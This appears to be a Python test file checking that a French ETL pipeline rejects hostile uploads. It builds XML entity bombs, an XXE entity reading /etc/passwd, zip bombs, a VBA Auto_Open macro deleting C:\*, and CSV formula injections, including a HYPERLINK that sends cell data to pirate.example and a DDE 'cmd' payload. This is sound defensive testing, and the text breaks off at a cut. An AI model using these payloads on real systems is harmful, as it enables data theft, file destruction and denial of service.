"""Hostile and broken files: each one rejected with a clear French message, database unchanged.

Every rejected case is loaded through the real pipeline (etl.pipeline.load) onto a real
database; the test then checks the message, that nothing was written (every version of every
table, tests.conftest.snapshot) and that the export is byte for byte the same as before.
Accepted oddities (formulas with cached values, macros, hidden help sheets, other encodings)
are checked on the values that land.
"""

from __future__ import annotations

import io
import random
import re
import shutil
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from etl import safety
from etl.export import write_table
from etl.pipeline import check, load
from etl.safety import ReadError
from etl.sources import read_workbook
from suivi.core.config import ROOT
from suivi.store.export import export_frame
from tests.conftest import assert_same, connection, snapshot
from tests.workbooks import VALUES, full_workbook, write_xlsx

HEAD = ["indicateur", "territoire", "annee", "nature", "valeur", "source", "commentaire"]
ROW = ["IND-TX", "T-QPV1", 2021, "realise", 44.5, "INSEE", None]


# --- builders ---------------------------------------------------------------------------

def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal but well-formed OLE2 compound file (v3, 512-byte sectors) holding `streams`.

    What Excel writes for a legacy .xls (a `Workbook` stream) and for a password-protected
    .xlsx (`EncryptionInfo` + `EncryptedPackage`). Streams are padded to 4 096 bytes so that
    they live in regular sectors (no mini stream needed).
    """
    assert 1 <= len(streams) <= 3
    end, free, fat_sect = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    datas = [d.ljust(4096, b"\0") for d in streams.values()]
    fat = [fat_sect, end]  # sector 0: FAT, sector 1: directory
    starts, sector = [], 2
    for d in datas:
        n = len(d) // 512
        starts.append(sector)
        fat += [sector + i + 1 for i in range(n - 1)] + [end]
        sector += n
    assert len(fat) <= 128
    fat_bytes = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))

    def entry(name, kind, child, right, start, size):
        raw = name.encode("utf-16-le") + b"\0\0"
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", free, right, child) + b"\0" * 16 + b"\0" * 4
                + b"\0" * 16 + struct.pack("<IQ", start, size))

    names = list(streams)
    dirs = entry("Root Entry", 5, 1, free, end, 0)
    for i, (n, start) in enumerate(zip(names, starts)):
        right = i + 2 if i + 1 < len(names) else free
        dirs += entry(n, 2, free, right, start, 4096)
    dirs = dirs.ljust(512, b"\0")
    header = (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<109I", 0, *([free] * 108)))
    assert len(header) == 512
    return header + fat_bytes + dirs + b"".join(datas)


def values_workbook(path: Path, rows=None, extra: dict | None = None) -> Path:
    """A valeurs sheet for the test contract (already in the database)."""
    sheets = {"valeurs": rows if rows is not None else [HEAD, ROW]}
    sheets.update(extra or {})
    return write_xlsx(path, sheets)


def rezip(src: Path, dst: Path, replace: dict[str, bytes] | None = None,
          add: dict[str, bytes] | None = None) -> Path:
    """Copy an xlsx part by part, replacing or adding parts (what a hand-made file does)."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, replace.get(info.filename, zin.read(info.filename)))
        for name, data in add.items():
            zout.writestr(name, data)
    return dst


def part(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as z:
        return z.read(name)


def sheet_part(path: Path, sheet: str = "valeurs") -> str:
    """Zip path of a sheet (openpyxl numbers them in creation order)."""
    wb = openpyxl.load_workbook(path, read_only=True)
    return f"xl/worksheets/sheet{wb.sheetnames.index(sheet) + 1}.xml"


def sheet_with_formula(path: Path, cached: str | None, sheet: str = "valeurs") -> Path:
    """valeurs!E2 = =40+4.5, with or without the value a spreadsheet would have cached."""
    base = path.with_name("base-" + path.name)
    rows = [HEAD, ROW[:4] + ["=40+4.5"] + ROW[5:]]
    if sheet == "valeurs":
        values_workbook(base, rows)
    else:
        values_workbook(base, extra={sheet: [["aide"], ["=1/0"]]})
    name = sheet_part(base, sheet)
    xml = part(base, name).decode()
    # openpyxl writes an empty value as <v/> (its own writer) or <v></v> (with lxml installed)
    assert re.search(r"<f>[^<]*</f>(<v\s*/>|<v></v>)", xml), xml[-400:]
    new = re.sub(r"(<f>[^<]*</f>)(?:<v\s*/>|<v></v>)",
                 lambda m: m.group(1) + (f"<v>{cached}</v>" if cached is not None else ""), xml)
    return rezip(base, path, {name: new.encode()})


BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE sst [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
              for i in range(1, 10))
    + ']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
      'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
)


def xml_bomb(path: Path, target: str) -> Path:
    base = values_workbook(path.with_name("base-" + path.name))
    name = sheet_part(base)
    if target == "sharedStrings":  # F2 (source) points at the shared string holding &lol9;
        xml = re.sub(r'<c r="F2" t="inlineStr"><is><t>[^<]*</t></is></c>',
                     '<c r="F2" t="s"><v>0</v></c>', part(base, name).decode())
        assert '<c r="F2" t="s">' in xml
        types = part(base, "[Content_Types].xml").decode().replace(
            "</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
                        "</Types>")
        rels = part(base, "xl/_rels/workbook.xml.rels").decode().replace(
            "</Relationships>",
            '<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
        return rezip(base, path, {name: xml.encode(), "[Content_Types].xml": types.encode(),
                                  "xl/_rels/workbook.xml.rels": rels.encode()},
                     {"xl/sharedStrings.xml": BILLION_LAUGHS.encode()})
    xml = part(base, name).decode()
    if target == "sheet":
        doctype = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    else:  # external entity (XXE): would read a file of the server
        doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    xml = xml.replace("?>", "?>" + doctype, 1) if xml.startswith("<?xml") else doctype + xml
    return rezip(base, path, {name: xml.encode()})


def raw_zip(path: Path, entries: list[tuple[str, bytes, int, int]]) -> Path:
    """A zip written by hand from (name, raw deflate stream, crc32, uncompressed size)."""
    out, central = bytearray(), bytearray()
    for name, data, crc, size in entries:
        offset, raw = len(out), name.encode()
        out += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(data), size,
                           len(raw), 0) + raw + data
        central += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc,
                               len(data), size, len(raw), 0, 0, 0, 0, 0, offset) + raw
    eocd = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                       len(central), len(out), 0)
    path.write_bytes(bytes(out + central + eocd))
    return path


def deflate(chunks, repeat_middle: int = 1) -> tuple[bytes, int, int]:
    """Raw deflate of prefix + middle * repeat_middle + suffix. A full flush resets the
    compressor, so every copy of the middle block compresses to the same bytes: a 1,5 Go
    part is built in a second from one compressed megabyte."""
    prefix, middle, suffix = chunks
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(middle) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.compress(suffix) + c.flush(zlib.Z_FINISH)
    crc = zlib.crc32(prefix)
    for _ in range(repeat_middle):
        crc = zlib.crc32(middle, crc)
    crc = zlib.crc32(suffix, crc)
    return head + block * repeat_middle + tail, crc, len(prefix) + len(middle) * repeat_middle \
        + len(suffix)


def zip_bomb(path: Path, megabytes: int) -> Path:
    """A workbook whose sheet inflates to `megabytes` of blanks (a thousand times its size)."""
    base = values_workbook(path.with_name("base-" + path.name))
    name = sheet_part(base)
    entries = []
    with zipfile.ZipFile(base) as zin:
        for info in zin.infolist():
            if info.filename == name:
                parts = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats'
                         b'.org/spreadsheetml/2006/main"><sheetData>', b" " * (1 << 20),
                         b"</sheetData></worksheet>")
                entries.append((name, *deflate(parts, megabytes)))
            else:
                entries.append((info.filename, *deflate((zin.read(info.filename), b"", b""))))
    raw_zip(path, entries)
    with zipfile.ZipFile(path) as z:
        assert z.getinfo(name).file_size > megabytes << 20
    return path


def lying_zip(path: Path) -> Path:
    """A sheet whose headers declare 2 000 bytes while it inflates to 40 Mo: only the CRC
    check after a bounded read can catch it."""
    base = values_workbook(path.with_name("base-" + path.name))
    name = sheet_part(base)
    big = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
           b'spreadsheetml/2006/main"><sheetData>' + b" " * (40 << 20)
           + b"</sheetData></worksheet>")
    rezip(base, path, {name: big})
    data = bytearray(path.read_bytes())
    encoded = name.encode()
    for sig, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        pos = 0
        while (pos := data.find(sig, pos)) >= 0:
            if data[pos + name_at: pos + name_at + len(encoded)] == encoded:
                struct.pack_into("<I", data, pos + size_at, 2000)
            pos += 4
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as z:
        assert z.getinfo(name).file_size == 2000
    return path


def merged(path: Path, sheet: str = "valeurs") -> Path:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    ws = wb.create_sheet("valeurs")
    for row in [HEAD, ROW, ["IND-TX", "T-QPV2", 2021, "realise", 30, "INSEE", None]]:
        ws.append(row)
    help_ws = wb.create_sheet("LISEZMOI")
    help_ws.append(["Titre", None])
    (ws if sheet == "valeurs" else help_ws).merge_cells("A5:B5" if sheet == "valeurs" else "A1:B1")
    wb.save(path)
    return path


def hidden(path: Path, sheet: str, state: str = "hidden") -> Path:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in {"valeurs": [HEAD, ROW], "brouillon": [["notes"], ["à revoir"]]}.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    if sheet == "valeurs":
        wb.create_sheet("LISEZMOI").append(["aide"])
        wb.active = 2
    wb[sheet].sheet_state = state
    wb.save(path)
    return path


def xlsm(path: Path) -> Path:
    base = values_workbook(path.with_name("base.xlsx"))
    types = part(base, "[Content_Types].xml").decode().replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    "</Types>")
    rels = part(base, "xl/_rels/workbook.xml.rels").decode().replace(
        "</Relationships>",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/></Relationships>')
    vba = cfb({"dir": b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\n"
                      b"Shell \"cmd /c del C:\\*\"\r\nEnd Sub\r\n"})
    return rezip(base, path, {"[Content_Types].xml": types.encode(),
                              "xl/_rels/workbook.xml.rels": rels.encode()},
                 {"xl/vbaProject.bin": vba})


def pdf_bytes() -> bytes:
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def random_bytes(n: int = 20_000) -> bytes:
    return random.Random(20261122).randbytes(n)


def text_formula_cell(path: Path, header_value: str, value_text: str) -> Path:
    """A text cell starting with "=" that a spreadsheet stores as text (not a formula)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "valeurs"
    ws.append(HEAD)
    ws.append(ROW)
    cell = ws.cell(2, HEAD.index(header_value) + 1)
    cell.value = value_text
    cell.data_type = "s"
    wb.save(path)
    return path


# --- fixtures and the common assertion ----------------------------------------------------

@pytest.fixture(scope="module")
def base_db(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile")
    db = tmp / "base.duckdb"
    checked, result = load(full_workbook(tmp / "contrat.xlsx"), db=db)
    assert checked.ok and result is not None
    return db


@pytest.fixture
def db(base_db, tmp_path) -> Path:
    out = tmp_path / "suivi.duckdb"
    shutil.copy(base_db, out)
    return out


def export_bytes(db: Path, tmp_path: Path) -> bytes:
    out = tmp_path / f"export-{time.monotonic_ns()}.csv"
    with connection(db, read_only=True) as con:
        write_table(export_frame(con), out)
    return out.read_bytes()


def assert_rejected(db: Path, tmp_path: Path, source, expected: list[str], name=None) -> str:
    """Load `source`; it must be refused with every `expected` fragment in the message and
    leave every table and the export exactly as they were."""
    before, export_before = snapshot(db), export_bytes(db, tmp_path)
    checked, result = load(source, name=name, db=db)
    text = checked.report.render()
    assert result is None and not checked.ok, text
    for fragment in expected:
        assert fragment in text, f"{fragment!r} not in {text!r}"
    assert_same(before, snapshot(db))
    assert export_bytes(db, tmp_path) == export_before
    return text


def current(db: Path, indicator="IND-TX", territory="T-QPV1", year=2021):
    with connection(db, read_only=True) as con:
        return con.rows("SELECT value, source, comment FROM observation WHERE "
                           "indicator_code = ? AND territory_code = ? AND year = ? AND "
                           "nature = 'realise' AND breakdown = ''",
                           [indicator, territory, year])


# --- rejected files ---------------------------------------------------------------------

REJECTED = {
    "octets-aleatoires.xlsx": (lambda p: p.write_bytes(random_bytes()),
                               ["n'est pas un classeur Excel lisible",
                                "des données binaires illisibles"]),
    "octets-aleatoires.csv": (lambda p: p.write_bytes(random_bytes()),
                              ["n'est pas un fichier CSV", "des données binaires illisibles"]),
    "octets-aleatoires.parquet": (lambda p: p.write_bytes(random_bytes()),
                                  ["n'est pas un fichier Parquet lisible"]),
    "rapport.pdf.xlsx": (lambda p: p.write_bytes(pdf_bytes()),
                         ["n'est pas un classeur Excel lisible", "un document PDF"]),
    "export-web.xls": (lambda p: p.write_bytes(b'<html xmlns:x="urn:schemas-microsoft-com:'
                                               b'office:excel"><table><tr><td>1</td></tr>'
                                               b"</table></html>"),
                       ["n'est pas un classeur Excel lisible", "une page web (HTML/XML)"]),
    "vide.xlsx": (lambda p: p.write_bytes(b""), ["« vide.xlsx » est vide"]),
    "vide.csv": (lambda p: p.write_bytes(b"\xef\xbb\xbf\r\n"), ["« vide.csv » est vide"]),
    "ancien.xls": (lambda p: p.write_bytes(cfb({"Workbook": b"\x09\x08" + b"\0" * 200})),
                   ["format .xls ancien : enregistrez en .xlsx"]),
    "ancien-renomme.xlsx": (lambda p: p.write_bytes(cfb({"Workbook": b"\x09\x08"})),
                            ["format .xls ancien : enregistrez en .xlsx"]),
    "protege.xlsx": (lambda p: p.write_bytes(cfb({"EncryptionInfo": b"\x04\x00\x04\x00",
                                                   "EncryptedPackage": random_bytes(3000)})),
                     ["est protégé par un mot de passe (chiffré)", "retirez le mot de passe"]),
    "document-word.xlsx": (lambda p: zipfile.ZipFile(p, "w").writestr("word/document.xml", "<w/>"),
                           ["n'est pas un classeur Excel : c'est un document Word"]),
    "classeur.ods": (lambda p: zipfile.ZipFile(p, "w").writestr(
        "mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        ["classeur OpenDocument (.ods) : enregistrez-le en .xlsx"]),
    "tronque.xlsx": (lambda p: p.write_bytes(
        values_workbook(p.with_name("entier.xlsx")).read_bytes()[:3000]),
        ["est abîmé ou incomplet"]),
    "classeur-renomme.csv": (lambda p: p.write_bytes(
        values_workbook(p.with_name("vrai.xlsx")).read_bytes()),
        ["n'est pas un fichier CSV : c'est un classeur Excel"]),
    "bombe-entites-sharedstrings.xlsx": (lambda p: xml_bomb(p, "sharedStrings"),
                                         ["déclarations XML interdites",
                                          "« xl/sharedStrings.xml »"]),
    "bombe-entites-feuille.xlsx": (lambda p: xml_bomb(p, "sheet"),
                                   ["déclarations XML interdites", "« xl/worksheets/sheet1.xml »"]),
    "entite-externe.xlsx": (lambda p: xml_bomb(p, "xxe"), ["déclarations XML interdites"]),
    "bombe-zip.xlsx": (lambda p: zip_bomb(p, 300),
                       ["bombe de décompression", "la partie « xl/worksheets/sheet1.xml » se "
                                                  "décompresse"]),
    "taille-mensongere.xlsx": (lying_zip,
                               ["est abîmé (la partie interne « xl/worksheets/sheet1.xml »"]),
    "formule-sans-valeur.xlsx": (lambda p: sheet_with_formula(p, cached=None),
                                 ["Formule(s) sans valeur calculée dans l'onglet « valeurs »",
                                  "cellule(s) E2", "Collage spécial > Valeurs"]),
    "cellules-fusionnees.xlsx": (merged, ["Cellules fusionnées dans l'onglet « valeurs »",
                                          "A5:B5", "défusionnez-les"]),
    "onglet-valeurs-masque.xlsx": (lambda p: hidden(p, "valeurs"),
                                   ["a des onglets masqués dans la zone des valeurs : « valeurs »"]),
    "onglet-valeurs-tres-masque.xlsx": (lambda p: hidden(p, "valeurs", "veryHidden"),
                                        ["a des onglets masqués dans la zone des valeurs"]),
    "en-tete-renomme.xlsx": (lambda p: values_workbook(p, [["indic"] + HEAD[1:], ROW]),
                             ["Colonne obligatoire « indicateur » absente de l'onglet "
                              "« valeurs »", "Colonnes trouvées : indic, territoire"]),
    "en-tete-manquant.xlsx": (lambda p: values_workbook(p, [HEAD[:4] + HEAD[5:],
                                                            ROW[:4] + ROW[5:]]),
                              ["Colonne obligatoire « valeur » absente de l'onglet « valeurs »"]),
    "formule-texte-dans-valeur.xlsx": (lambda p: text_formula_cell(p, "valeur", "=1+2"),
                                       ["Nombre illisible"]),
    "extension-inconnue.exe": (lambda p: p.write_bytes(b"MZ" + random_bytes(100)),
                               ["Format « .exe » non pris en charge"]),
}


@pytest.mark.parametrize("name", list(REJECTED))
def test_hostile_file_is_rejected_and_nothing_changes(db, tmp_path, name):
    build, expected = REJECTED[name]
    path = tmp_path / name
    build(path)
    text = assert_rejected(db, tmp_path, path, expected)
    assert "Traceback" not in text


def test_rejected_upload_bytes_too(db, tmp_path):
    """The Import page passes the uploaded bytes, not a path: same checks, same messages."""
    data = cfb({"EncryptionInfo": b"\x04\x00", "EncryptedPackage": b"x" * 100})
    assert_rejected(db, tmp_path, data, ["protégé par un mot de passe"], name="budget.xlsx")
    assert_rejected(db, tmp_path, pdf_bytes(), ["un document PDF"], name="valeurs.xlsx")


def test_oversized_upload_and_file(db, tmp_path, monkeypatch):
    padded = rezip(values_workbook(tmp_path / "v.xlsx"), tmp_path / "padded.xlsx")
    with zipfile.ZipFile(padded, "a", zipfile.ZIP_STORED) as z:  # a big embedded image, say
        z.writestr("xl/media/image1.png", random.Random(1).randbytes(1_575_000))
    big = padded.read_bytes()
    assert 1.5 * 2**20 < len(big) < 1.55 * 2**20
    monkeypatch.setenv("SUIVI_MAX_UPLOAD_MB", "1")
    assert_rejected(db, tmp_path, big, ["« gros.xlsx » pèse 1,5 Mo : la limite est de 1 Mo",
                                        "Découpez-le"], name="gros.xlsx")
    # A path (CLI) has its own, larger limit, checked before the file is read.
    path = tmp_path / "gros.xlsx"
    path.write_bytes(big)
    checked, result = load(path, db=db)
    assert checked.ok, checked.report.render()
    monkeypatch.setenv("SUIVI_MAX_FILE_MB", "1")
    assert_rejected(db, tmp_path, path, ["pèse 1,5 Mo : la limite est de 1 Mo"])


def test_uncompressed_total_limit(db, tmp_path, monkeypatch):
    """A workbook that inflates beyond SUIVI_MAX_UNCOMPRESSED_MB with a normal ratio."""
    rows = [HEAD] + [["IND-TX", f"T-QPV{1 + i % 2}", 2000 + i % 20, "realise", i * 1.5,
                      f"source {i}", f"commentaire {i * 7919 % 100_003}"] for i in range(8_000)]
    path = values_workbook(tmp_path / "gros.xlsx", rows)
    with zipfile.ZipFile(path) as z:
        sizes = [(i.file_size, i.compress_size) for i in z.infolist()]
    assert sum(s for s, _ in sizes) > 1.2 * 2**20 and all(s < 30 * c + 500 for s, c in sizes)
    monkeypatch.setenv("SUIVI_MAX_UNCOMPRESSED_MB", "1")
    assert_rejected(db, tmp_path, path, ["une fois décompressé, il occuperait",
                                         "(limite 1 Mo, réglage SUIVI_MAX_UNCOMPRESSED_MB)"])


BOUNDED = """
import resource, sys, time
from etl.sources import read_workbook
from etl import safety
from etl.safety import ReadError
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
start = time.monotonic()
try:
    read_workbook(sys.argv[1])
    print("LU")
except ReadError as exc:
    print("REFUSE", str(exc)[:60])
print(time.monotonic() - start, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.parametrize("builder", [lambda p: zip_bomb(p, 1500), lying_zip])
def test_bombs_are_refused_in_bounded_time_and_memory(tmp_path, builder):
    """1,5 Go of blanks, or 40 Mo behind a header announcing 2 000 bytes: refused within
    seconds, and the reading process grows by less than 64 Mo."""
    path = builder(tmp_path / "bombe.xlsx")
    assert path.stat().st_size < 3_000_000
    out = subprocess.run([sys.executable, "-c", BOUNDED, str(path)], cwd=ROOT,
                         capture_output=True, text=True, timeout=120)
    lines = out.stdout.strip().splitlines()
    assert lines[0].startswith("REFUSE"), out.stdout + out.stderr
    seconds, grown_kb = lines[-1].split()
    assert float(seconds) < 5
    assert int(grown_kb) < 64 * 1024


def test_cli_check_prints_the_message_and_fails(db, tmp_path):
    path = tmp_path / "ancien.xls"
    path.write_bytes(cfb({"Workbook": b"\x09\x08"}))
    out = subprocess.run([sys.executable, "-m", "etl", "--db", str(db), "check", str(path)],
                         cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert out.returncode == 1
    assert "format .xls ancien : enregistrez en .xlsx" in out.stdout


# --- accepted oddities: what lands --------------------------------------------------------

def test_formula_with_cached_value_loads_the_cached_value(db, tmp_path):
    path = sheet_with_formula(tmp_path / "formule.xlsx", cached="44.5")
    checked, result = load(path, db=db)
    assert checked.ok, checked.report.render()
    assert current(db)[0][0] == 44.5
    assert any("1 formule(s) ; les valeurs calculées enregistrées dans le fichier ont été lues"
               in n for n in checked.workbook.notes)


def test_formula_without_value_outside_the_values_area_is_ignored(db, tmp_path):
    path = sheet_with_formula(tmp_path / "aide.xlsx", cached=None, sheet="LISEZMOI")
    checked, result = load(path, db=db)
    assert checked.ok, checked.report.render()
    assert current(db)[0][0] == 44.5


def test_merged_cells_outside_the_values_area_are_fine(db, tmp_path):
    checked, result = load(merged(tmp_path / "titre.xlsx", sheet="LISEZMOI"), db=db)
    assert checked.ok, checked.report.render()
    assert current(db, territory="T-QPV2")[0][0] == 30


def test_hidden_help_sheet_is_skipped_with_a_note(db, tmp_path):
    checked, result = load(hidden(tmp_path / "brouillon.xlsx", "brouillon"), db=db)
    assert checked.ok, checked.report.render()
    assert "Onglet masqué « brouillon » ignoré." in checked.workbook.notes
    assert "brouillon" not in checked.workbook.ignored


def test_our_template_with_its_hidden_lists_sheet_loads(db, tmp_path):
    from etl.template import write_template

    out = tmp_path / "modele.xlsx"
    with connection(db) as con:
        write_template(con, "TEST-2015", 2021, out)
    wb = openpyxl.load_workbook(out)
    assert wb["listes"].sheet_state == "hidden"
    ws = wb["valeurs"]
    header = [c.value for c in ws[1]]
    for r in range(2, ws.max_row + 1):
        if (ws.cell(r, 1).value, ws.cell(r, 2).value, ws.cell(r, header.index("ventilation") + 1)
                .value) == ("IND-TX", "T-QPV2", None):
            ws.cell(r, header.index("valeur") + 1).value = 37.5
    wb.save(out)
    checked, result = load(out, db=db)
    assert checked.ok, checked.report.render()
    assert result is not None and result.total("inserted") == 1
    assert current(db, territory="T-QPV2")[0][0] == 37.5
    assert checked.workbook.notes == [] and checked.workbook.ignored == []


def test_xlsm_values_are_read_and_macros_never_run(db, tmp_path):
    path = xlsm(tmp_path / "macros.xlsm")
    assert "xl/vbaProject.bin" in zipfile.ZipFile(path).namelist()
    checked, result = load(path, db=db)
    assert checked.ok, checked.report.render()
    assert current(db)[0][0] == 44.5
    assert any("contient des macros (VBA) : elles n'ont pas été exécutées" in n
               for n in checked.workbook.notes)


def test_extra_columns_are_information_not_errors(db, tmp_path):
    rows = [HEAD + ["remarque_interne"], ROW + ["à vérifier"]]
    checked, result = load(values_workbook(tmp_path / "colonnes.xlsx", rows), db=db)
    assert checked.ok and checked.report.n_errors == 0
    assert "Onglet « valeurs » : colonne « remarque_interne » non reconnue, ignorée." \
        in checked.report.info
    assert current(db)[0][0] == 44.5


def test_headers_in_any_case_and_accents_are_recognised(db, tmp_path):
    rows = [["Indicateur", "TERRITOIRE", "Année ", "Nature", "Valeur", "Source", "Commentaire"],
            ROW]
    checked, result = load(values_workbook(tmp_path / "entetes.xlsx", rows), db=db)
    assert checked.ok, checked.report.render()
    assert current(db)[0][0] == 44.5


CSV_ROWS = [HEAD, ["IND-TX", "T-QPV1", "2021", "réalisé", "44,5", "INSEE", "Quartier été"],
            ["IND-TX", "T-QPV2", "2021", "realise", "30", "INSEE", ""]]


@pytest.mark.parametrize("encoding,sep,bom", [
    ("utf-16-le", "\t", b"\xff\xfe"),   # Excel « Texte Unicode »
    ("utf-16-le", "\t", b""),           # the same without its BOM
    ("utf-16-be", ";", b"\xfe\xff"),
    ("latin-1", "\t", b""),
    ("cp1252", ";", b""),
    ("utf-8", "\t", b"\xef\xbb\xbf"),
])
def test_csv_encodings_and_separators(db, tmp_path, encoding, sep, bom):
    text = "\r\n".join(sep.join(row) for row in CSV_ROWS) + "\r\n"
    path = tmp_path / "valeurs.csv"
    path.write_bytes(bom + text.encode(encoding))
    checked, result = load(path, db=db)
    assert checked.ok, checked.report.render()
    assert current(db) == [(44.5, "INSEE", "Quartier été")]
    assert current(db, territory="T-QPV2")[0][0] == 30.0


def test_leading_formula_characters_in_text_are_kept_as_text(db, tmp_path):
    """=, +, - and @ at the start of a text cell: stored as typed, never evaluated; numbers
    written "-3" or "+2" stay numbers."""
    rows = [HEAD,
            ["IND-TX", "T-QPV1", 2021, "realise", "-3", '=HYPERLINK("http://x.example","clic")',
             "@SUM(A1:A9)"],
            ["IND-TX", "T-QPV2", 2021, "realise", "+2", "+33 2 47 00 00 00", "-moins"]]
    text = "\n".join(";".join(str(v) for v in r) for r in rows)
    path = tmp_path / "valeurs.csv"
    path.write_text(text, encoding="utf-8")
    checked, result = load(path, db=db)
    assert checked.ok, checked.report.render()
    assert current(db) == [(-3.0, '=HYPERLINK("http://x.example","clic")', "@SUM(A1:A9)")]
    assert current(db, territory="T-QPV2") == [(2.0, "+33 2 47 00 00 00", "-moins")]
    # The same text typed in Excel (stored as a string cell) is kept too.
    path = text_formula_cell(tmp_path / "texte.xlsx", "source", "=cmd|' /C calc'!A0")
    checked, result = load(path, db=db)
    assert checked.ok, checked.report.render()
    assert current(db)[0][1] == "=cmd|' /C calc'!A0"


# --- exports neutralise formula injection -------------------------------------------------

def test_exports_neutralise_formulas_end_to_end(tmp_path):
    """A label starting with =HYPERLINK( loaded, then exported: every spreadsheet cell that
    would run starts with an apostrophe; numbers (even negative) stay numbers."""
    from tests.workbooks import CONTRACT, INDICATORS, TERRITORIES, TREE

    evil = '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez ici")'
    indicators = [INDICATORS[0]] + [[evil if v == "Taux d'emploi" else v for v in row]
                                    for row in INDICATORS[1:]]
    values = VALUES + [["IND-TX", "T-COM", 2021, "realise", "-3", None, "@SOMME(1;2)"]]
    path = tmp_path / "contrat.xlsx"
    write_xlsx(path, {"contrat": CONTRACT, "territoires": TERRITORIES, "arborescence": TREE,
                      "indicateurs": indicators, "valeurs": values})
    wb = openpyxl.load_workbook(path)  # openpyxl reads "=..." as a formula: make it text
    for row in wb["indicateurs"].iter_rows():
        if row[1].value == evil:
            row[1].data_type = "s"
    wb.save(path)
    db = tmp_path / "suivi.duckdb"
    checked, result = load(path, db=db)
    assert checked.ok, checked.report.render()
    with connection(db, read_only=True) as con:
        assert con.rows("SELECT label FROM indicator WHERE code = 'IND-TX'") == \
            [(evil,)]
        frame = export_frame(con)

    csv_path = write_table(frame, tmp_path / "export.csv")
    csv = pd.read_csv(csv_path, sep=";", dtype=str, encoding="utf-8-sig")
    labels = csv.loc[csv["indicateur"] == "IND-TX", "indicateur_libelle"]
    assert len(labels) and (labels == "'" + evil).all()
    assert (csv["source"].dropna() == "'@SOMME(1;2)").sum() == 1
    assert not csv["indicateur_libelle"].str.startswith(("=", "+", "-", "@")).any()
    neg = csv[(csv["territoire"] == "T-COM") & (csv["annee"] == "2021")]
    assert neg["valeur"].tolist() == ["-3,0"]

    xlsx_path = write_table(frame, tmp_path / "export.xlsx")
    ws = openpyxl.load_workbook(xlsx_path)["valeurs"]
    header = [c.value for c in ws[1]]
    cells = [ws.cell(r, header.index("indicateur_libelle") + 1) for r in range(2, ws.max_row + 1)]
    risky = [c for c in cells if str(c.value).lstrip("'").startswith("=")]
    assert risky and all(c.value == "'" + evil and c.data_type == "s" for c in risky)
    values = [ws.cell(r, header.index("valeur") + 1) for r in range(2, ws.max_row + 1)]
    assert -3 in [c.value for c in values]
    assert all(c.data_type == "n" for c in values if c.value is not None)
    with zipfile.ZipFile(xlsx_path) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_read_errors_are_read_errors_not_crashes():
    """Every builder above fails with ReadError (French) and nothing else, even via bytes."""
    for data, name in [(random_bytes(), "x.xlsx"), (b"PK\x03\x04" + random_bytes(500), "x.xlsx"),
                       (b"PK\x05\x06" + b"\0" * 18, "x.xlsx"), (b"\xff\xfe" + b"\0\xd8" * 50,
                                                                 "x.csv"),
